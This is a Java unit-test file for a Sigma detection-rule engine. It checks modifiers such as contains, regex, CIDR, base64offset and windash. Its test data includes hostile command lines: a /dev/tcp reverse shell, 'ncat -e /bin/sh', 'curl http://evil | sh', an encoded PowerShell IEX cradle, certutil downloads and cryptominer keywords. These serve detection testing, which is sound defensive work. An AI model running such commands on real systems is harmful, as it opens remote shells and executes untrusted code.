package io.vigil.detect.sigma;

import static io.vigil.detect.sigma.InlineRules.matches;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Every supported value modifier, with a match and a miss. */
class SigmaModifiersTest {
  private static boolean one(String key, String value, Map<String, ?> event) {
    return matches("sel:\n  '" + key + "': " + value + "\ncondition: sel\n", event);
  }

  @Test
  void containsStartswithEndswith() {
    assertThat(one("CommandLine|contains", "/dev/tcp/", Map.of("CommandLine", "bash -i >& /DEV/TCP/1.2.3.4/80"))).isTrue();
    assertThat(one("CommandLine|contains", "/dev/tcp/", Map.of("CommandLine", "bash -i"))).isFalse();
    assertThat(one("Image|startswith", "/tmp/", Map.of("Image", "/tmp/x"))).isTrue();
    assertThat(one("Image|startswith", "/tmp/", Map.of("Image", "/var/tmp/x"))).isFalse();
    assertThat(one("Image|endswith", "/nc", Map.of("Image", "/usr/bin/nc"))).isTrue();
    assertThat(one("Image|endswith", "/nc", Map.of("Image", "/usr/bin/ncat"))).isFalse();
    assertThat(one("Image|contains", "'bin/*/x'", Map.of("Image", "/usr/bin/a/b/x/y"))).as("wildcards inside contains").isTrue();
  }

  @Test
  void allAndsTheValues() {
    String v = "['-c', 'import socket']";
    assertThat(one("CommandLine|contains|all", v, Map.of("CommandLine", "python3 -c 'import socket,os'"))).isTrue();
    assertThat(one("CommandLine|contains|all", v, Map.of("CommandLine", "python3 -c 'print(1)'"))).isFalse();
  }

  @Test
  void casedIsExact() {
    assertThat(one("CommandLine|contains|cased", "Invoke-", Map.of("CommandLine", "x Invoke-Y"))).isTrue();
    assertThat(one("CommandLine|contains|cased", "Invoke-", Map.of("CommandLine", "x invoke-Y"))).isFalse();
  }

  @Test
  void reIsCaseSensitiveUnanchoredAndTakesTheIMSFlags() {
    assertThat(one("CommandLine|re", "'nc(at)? -e'", Map.of("CommandLine", "/bin/ncat -e /bin/sh"))).isTrue();
    assertThat(one("CommandLine|re", "'nc(at)? -e'", Map.of("CommandLine", "/bin/NCAT -e /bin/sh"))).as("case-sensitive").isFalse();
    assertThat(one("CommandLine|re|i", "'nc(at)? -e'", Map.of("CommandLine", "/bin/NCAT -e /bin/sh"))).isTrue();
    assertThat(one("CommandLine|re", "'^b$'", Map.of("CommandLine", "a\nb\nc"))).isFalse();
    assertThat(one("CommandLine|re|m", "'^b$'", Map.of("CommandLine", "a\nb\nc"))).isTrue();
    assertThat(one("CommandLine|re", "'a.c'", Map.of("CommandLine", "a\nc"))).isFalse();
    assertThat(one("CommandLine|re|s", "'a.c'", Map.of("CommandLine", "a\nc"))).isTrue();
  }

  @Test
  void cidrMatchesIpv4AndIpv6Networks() {
    assertThat(one("DestinationIp|cidr", "10.0.0.0/8", Map.of("DestinationIp", "10.20.30.40"))).isTrue();
    assertThat(one("DestinationIp|cidr", "10.0.0.0/8", Map.of("DestinationIp", "11.0.0.1"))).isFalse();
    assertThat(one("DestinationIp|cidr", "192.168.1.0/26", Map.of("DestinationIp", "192.168.1.63"))).isTrue();
    assertThat(one("DestinationIp|cidr", "192.168.1.0/26", Map.of("DestinationIp", "192.168.1.64"))).isFalse();
    assertThat(one("DestinationIp|cidr", "10.0.0.0/8", Map.of("DestinationIp", "::ffff:10.1.2.3"))).as("IPv4-mapped").isTrue();
    assertThat(one("DestinationIp|cidr", "'fe80::/10'", Map.of("DestinationIp", "fe80::1%eth0"))).isTrue();
    assertThat(one("DestinationIp|cidr", "'fe80::/10'", Map.of("DestinationIp", "2001:db8::1"))).isFalse();
    assertThat(one("DestinationIp|cidr", "'2001:db8::/32'", Map.of("DestinationIp", "2001:DB8:0:0:0:0:0:1"))).isTrue();
    assertThat(one("DestinationIp|cidr", "10.0.0.0/8", Map.of("DestinationIp", "not-an-ip"))).isFalse();
  }

  @Test
  void base64MatchesTheEncodedValueCaseSensitively() {
    String encoded = Base64.getEncoder().encodeToString("/bin/sh -i".getBytes(StandardCharsets.UTF_8));
    assertThat(one("CommandLine|base64|contains", "'/bin/sh -i'", Map.of("CommandLine", "echo " + encoded + " | base64 -d"))).isTrue();
    assertThat(one("CommandLine|base64|contains", "'/bin/sh -i'", Map.of("CommandLine", "echo " + encoded.toLowerCase() + " | base64 -d"))).isFalse();
  }

  @Test
  void base64offsetFindsTheValueAtAnyOffsetOfAnEncodedText() {
    for (String prefix : List.of("", "x", "xy", "xyz")) {
      String encoded = Base64.getEncoder().encodeToString((prefix + "curl http://evil | sh; echo done").getBytes(StandardCharsets.UTF_8));
      assertThat(one("CommandLine|base64offset|contains", "'curl http://evil'", Map.of("CommandLine", "bash -c {echo," + encoded + "}")))
          .as("offset %d", prefix.length()).isTrue();
    }
    String other = Base64.getEncoder().encodeToString("wget http://fine".getBytes(StandardCharsets.UTF_8));
    assertThat(one("CommandLine|base64offset|contains", "'curl http://evil'", Map.of("CommandLine", other))).isFalse();
    assertThat(FieldCompiler.base64Offsets("http://".getBytes(StandardCharsets.UTF_8))).containsExactly("aHR0cDovL", "h0dHA6Ly", "odHRwOi8v");
  }

  @Test
  void wideEncodesUtf16BeforeBase64() {
    String encoded = Base64.getEncoder().encodeToString("IEX (New-Object".getBytes(StandardCharsets.UTF_16LE));
    assertThat(one("CommandLine|wide|base64offset|contains", "'IEX (New-Object'", Map.of("CommandLine", "powershell -enc " + encoded))).isTrue();
    assertThat(one("CommandLine|base64offset|contains", "'IEX (New-Object'", Map.of("CommandLine", "powershell -enc " + encoded)))
        .as("without wide the UTF-8 encoding is looked for").isFalse();
  }

  @Test
  void windashMakesEveryDashLikeCharacterInterchangeable() {
    for (String flag : List.of("-", "/", "\u2013", "\u2014", "\u2015")) {
      assertThat(one("CommandLine|windash|contains", "' -urlcache '", Map.of("CommandLine", "certutil " + flag + "urlcache -f http://x")))
          .as("flag %s", flag).isTrue();
    }
    assertThat(one("CommandLine|windash|contains", "' -urlcache '", Map.of("CommandLine", "certutil +urlcache "))).isFalse();
    assertThat(one("CommandLine|contains", "' -urlcache '", Map.of("CommandLine", "certutil /urlcache "))).as("not without windash").isFalse();
  }

  @Test
  void existsTestsThePresenceOfTheFieldWhateverItsValue() {
    Map<String, Object> empty = new HashMap<>();
    empty.put("ParentImage", null);
    assertThat(one("ParentImage|exists", "true", empty)).isTrue();
    assertThat(one("ParentImage|exists", "true", Map.of("Image", "x"))).isFalse();
    assertThat(one("ParentImage|exists", "false", Map.of("Image", "x"))).isTrue();
    assertThat(one("ParentImage|exists", "false", Map.of("ParentImage", ""))).isFalse();
  }

  @Test
  void comparisonsAreNumeric() {
    assertThat(one("DestinationPort|gt", "1023", Map.of("DestinationPort", 4444L))).isTrue();
    assertThat(one("DestinationPort|gt", "1023", Map.of("DestinationPort", "1023"))).isFalse();
    assertThat(one("DestinationPort|gte", "1023", Map.of("DestinationPort", "1023"))).isTrue();
    assertThat(one("DestinationPort|lt", "1024", Map.of("DestinationPort", 22L))).isTrue();
    assertThat(one("DestinationPort|lt", "1024", Map.of("DestinationPort", 1024L))).isFalse();
    assertThat(one("DestinationPort|lte", "1024", Map.of("DestinationPort", 1024.0))).isTrue();
    assertThat(one("DestinationPort|lt", "1024", Map.of("DestinationPort", "http"))).as("not a number").isFalse();
    assertThat(one("SizeBytes|gt", "1.5", Map.of("SizeBytes", "1.75"))).isTrue();
  }

  @Test
  void fieldrefComparesWithAnotherFieldOfTheSameEvent() {
    assertThat(one("ParentImage|fieldref", "Image", Map.of("Image", "/bin/sh", "ParentImage", "/BIN/SH"))).isTrue();
    assertThat(one("ParentImage|fieldref", "Image", Map.of("Image", "/bin/sh", "ParentImage", "/bin/bash"))).isFalse();
    assertThat(one("ParentImage|fieldref", "Image", Map.of("ParentImage", "/bin/bash"))).as("other field absent").isFalse();
    assertThat(one("CommandLine|fieldref|contains", "Image", Map.of("Image", "/tmp/x", "CommandLine", "sh -c /tmp/x --y"))).isTrue();
    assertThat(one("ParentImage|fieldref|cased", "Image", Map.of("Image", "/bin/sh", "ParentImage", "/BIN/SH"))).isFalse();
  }

  @Test
  void neqNeedsTheFieldToDifferFromEveryValue() {
    assertThat(one("User|neq", "root", Map.of("User", "alice"))).isTrue();
    assertThat(one("User|neq", "root", Map.of("User", "ROOT"))).isFalse();
    assertThat(one("User|neq", "[root, daemon]", Map.of("User", "daemon"))).isFalse();
    assertThat(one("User|neq", "root", Map.of("Image", "x"))).as("absent field").isFalse();
    assertThat(one("ParentImage|fieldref|neq", "Image", Map.of("Image", "/bin/sh", "ParentImage", "/bin/bash"))).isTrue();
  }

  @Test
  void expandReplacesPlaceholdersWithEachOfTheirValues() {
    String rule = InlineRules.rule("""
        sel:
          User|expand: '%Admins%'
          CommandLine|expand|contains: 'login \\%%Admins%'
        condition: sel
        """);
    RuleSet rules = InlineRules.of(rule, Map.of("Admins", List.of("root", "adm*")));
    assertThat(rules.match(Map.of("User", "root", "CommandLine", "login %root now"))).containsExactly("r");
    assertThat(rules.match(Map.of("User", "admin", "CommandLine", "login %admin"))).as("placeholder values may hold wildcards").containsExactly("r");
    assertThat(rules.match(Map.of("User", "alice", "CommandLine", "login %root"))).isEmpty();
    assertThat(rules.match(Map.of("User", "root", "CommandLine", "login root"))).as("\\% is a plain percent sign").isEmpty();
    String literal = InlineRules.rule("""
        sel:
          User: '%Admins%'
        condition: sel
        """);
    assertThat(InlineRules.of(literal).match(Map.of("User", "%Admins%"))).as("without expand a placeholder is literal").containsExactly("r");
  }

  @Test
  void keywordsSearchEveryFieldAndAllAndsThem() {
    String rule = """
        keywords:
          - 'xmrig'
          - 'stratum+tcp'
        condition: keywords
        """;
    assertThat(matches(rule, Map.of("Image", "/opt/XMRig"))).isTrue();
    assertThat(matches(rule, Map.of("Image", "/bin/sh", "CommandLine", "sh -c 'x -o stratum+tcp://p'"))).isTrue();
    assertThat(matches(rule, Map.of("Image", "/bin/sh"))).isFalse();
    String all = """
        keywords:
          '|all':
            - 'wget'
            - 'chmod'
        condition: keywords
        """;
    assertThat(matches(all, Map.of("CommandLine", "wget x && chmod +x x"))).isTrue();
    assertThat(matches(all, Map.of("CommandLine", "wget x", "Image", "/usr/bin/chmod"))).as("across fields").isTrue();
    assertThat(matches(all, Map.of("CommandLine", "wget x"))).isFalse();
  }
}
